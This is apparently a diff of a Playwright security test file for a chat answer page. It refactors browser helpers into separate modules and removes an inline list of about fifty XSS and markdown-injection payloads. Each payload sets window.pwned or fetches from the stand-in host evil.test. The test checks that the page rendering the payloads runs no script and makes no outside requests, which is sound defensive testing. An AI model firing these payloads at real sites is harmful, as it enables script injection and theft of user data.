@@ -5,14 +5,10 @@ Set MODELWORKS_SHOTS to a folder to keep pictures of what the tests saw.
 
 from __future__ import annotations
 
-import os
 import re
-import shutil
 import time
 from collections.abc import Callable, Iterator
-from dataclasses import dataclass, field
 from functools import partial
-from pathlib import Path
 from typing import Any
 
 import pytest
@@ -20,21 +16,11 @@ import pytest
 pytest.importorskip("fastapi", reason="needs the extra `serve`")
 sync_api = pytest.importorskip("playwright.sync_api", reason="needs the extra `e2e`")
 
+from .page_browser import CHROMIUM, FLAGS, Seen, open_page  # noqa: E402
+from .page_hostile import HOSTILE  # noqa: E402
 from .page_stub import ANSWER, MODELS, PASSAGES, Stub, serving, stub_app  # noqa: E402
 
 expect = sync_api.expect
-CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
-FLAGS = [
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-]
-WATCH = """
-window.violations = [];
-document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.violatedDirective + " " + event.blockedURI));
-"""
 TAGS = set(
     "P BR CODE PRE STRONG EM A UL OL LI H3 H4 BLOCKQUOTE HR SPAN DIV BUTTON SVG PATH MARK SECTION HEADER FOOTER".split()
 )
@@ -42,40 +28,6 @@ ATTRIBUTES = {
     *("class id href target rel role title tabindex start type width height viewbox focusable d".split()),
     *("aria-label aria-hidden aria-busy aria-expanded aria-controls data-test data-state".split()),
 }
-
-
-@dataclass
-class Seen:
-    """What a page did besides what was asked of it."""
-
-    url: str
-    page: Any
-    stub: Stub
-    requests: list[str] = field(default_factory=list)
-    complaints: list[str] = field(default_factory=list)
-
-    def ask(self, question: str, wait: bool = True) -> Any:
-        """Types a question, sends it with Enter, waits until the answer is whole; gives the answer's element."""
-        self.page.locator("#question").fill(question)
-        self.page.keyboard.press("Enter")
-        answer = self.page.locator("[data-test=answer]").last
-        if wait:
-            expect(answer).to_have_attribute("data-state", re.compile("done|failed|stopped"), timeout=20_000)
-        return answer
-
-    def shot(self, name: str) -> None:
-        if folder := os.environ.get("MODELWORKS_SHOTS"):
-            self.page.wait_for_timeout(200)
-            self.page.screenshot(path=str(Path(folder) / f"{name}.png"))
-
-    def check(self) -> None:
-        """No script ran, nothing was fetched from elsewhere, the content policy had nothing to say."""
-        assert self.page.evaluate("window.pwned === undefined")
-        assert self.page.evaluate("window.violations") == []
-        assert [url for url in self.requests if not url.startswith((self.url, "data:"))] == []
-        assert self.complaints == []
-
-
 Opener = Callable[..., Seen]
 
 
@@ -94,29 +46,6 @@ def server() -> Iterator[tuple[str, Stub]]:
     stub = Stub()
     with serving(stub_app(stub)) as url:
         yield url, stub
-
-
-def open_page(browser: Any, url: str, stub: Stub, **options: Any) -> Seen:
-    options = {"viewport": {"width": 1200, "height": 800}, "locale": "en-US", "color_scheme": "light"} | options
-    context = browser.new_context(**options)
-    context.add_init_script(WATCH)
-    page = context.new_page()
-    seen = Seen(url, page, stub)
-    context.on("request", lambda request: seen.requests.append(request.url))
-    context.on("dialog", lambda dialog: (seen.complaints.append(f"dialog {dialog.message}"), dialog.dismiss()))
-    context.on("page", lambda other: seen.complaints.append(f"window {other.url}"))
-    page.on("pageerror", lambda error: seen.complaints.append(f"error {error}"))
-    # a refused request is reported by the browser itself: that is the point of some tests here
-    page.on(
-        "console",
-        lambda message: (
-            seen.complaints.append(message.text)
-            if message.type in ("error", "warning") and not message.text.startswith("Failed to load resource")
-            else None
-        ),
-    )
-    page.goto(url)
-    return seen
 
 
 @pytest.fixture
@@ -378,65 +307,6 @@ def test_copy(opened: Opener) -> None:
     seen.ask("What does os.path.join do?").locator("[data-test=copy]").click()
     expect(seen.page.locator("[data-test=copy]")).to_have_text("Copied")
     assert seen.page.evaluate("navigator.clipboard.readText()") == ANSWER
-
-
-RUN = "window.pwned=1;fetch('https://evil.test/x')"
-HOSTILE = [
-    f"<script>{RUN}</script>",
-    f'<img src=x onerror="{RUN}">',
-    f"<img src='https://evil.test/a.png' onload=\"{RUN}\">",
-    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
-    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
-    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
-    "<iframe src='https://evil.test/'></iframe>",
-    f"<body onload={RUN}>",
-    f"<details open ontoggle={RUN}>",
-    f"<input autofocus onfocus={RUN}>",
-    f"<video><source onerror={RUN}></video>",
-    "<link rel=stylesheet href=https://evil.test/a.css>",
-    "<style>@import 'https://evil.test/a.css'; * { background: url(https://evil.test/b.png) }</style>",
-    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
-    "<base href='https://evil.test/'>",
-    "<form action=https://evil.test/><button>Sign in</button></form>",
-    "<object data='https://evil.test/x.swf'></object><embed src='https://evil.test/x'>",
-    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
-    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
-    f"<template><img src=x onerror={RUN}></template>",
-    f"[click](javascript:{RUN})",
-    f"[click](JaVaScRiPt:{RUN})",
-    f"[click]( java\tscript:{RUN})",
-    f"[click](javascript&colon;{RUN})",
-    f"[click](\x01javascript:{RUN})",
-    "[click](data:text/html,<script>parent.pwned=1</script>)",
-    "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)",
-    "[click](vbscript:msgbox(1))",
-    "[click](//evil.test/x)",
-    "[click](\\\\evil.test\\x)",
-    "[click](blob:https://evil.test/1)",
-    "[click](file:///etc/passwd)",
-    "[bank.test](https://bank.test@evil.test/)",
-    "![pixel](https://evil.test/pixel.png?secret=1)",
-    f'![x](x" onerror="{RUN})',
-    f'[a](https://evil.test/" onmouseover="{RUN})',
-    f"[a](https://evil.test/'onclick='{RUN})",
-    f"[<img src=x onerror={RUN}>](https://evil.test/)",
-    f"[![x](javascript:{RUN})](javascript:{RUN})",
-    f'<javascript:{RUN}> <https://evil.test/"onclick={RUN}>',
-    f"**<img src=x onerror={RUN}>** *<b onclick={RUN}>* `<script>{RUN}</script>`",
-    f"```html\n<script>{RUN}</script>\n```",
-    f'```"><img src=x onerror={RUN}>\ncode\n```',
-    f"- <script>{RUN}</script>\n  - > # <img src=x onerror={RUN}>",
-    f"> > > > > > > > > > <script>{RUN}</script>",
-    f"# <script>{RUN}</script>\n## [x](javascript:{RUN})",
-    f"[ref]: javascript:{RUN}\n[click][ref]",
-    "[link]: https://evil.test/a.png\n![link]",
-    f"&lt;script&gt;{RUN}&lt;/script&gt; &#106;avascript:{RUN}",
-    f"{{@html '<img src=x onerror={RUN}>'}} {{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}}",
-    f"\u202e<script>\u2066{RUN}</script>\u0000<scr\u0000ipt>{RUN}</scr\u0000ipt>",
-    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
-    f'"><script>{RUN}</script><!-- --!> <![CDATA[<script>{RUN}</script>]]>',
-    "__proto__ constructor [1] [99] [0](https://evil.test)",
-]
 
 
 # opens the passage, then lists the elements of the answer
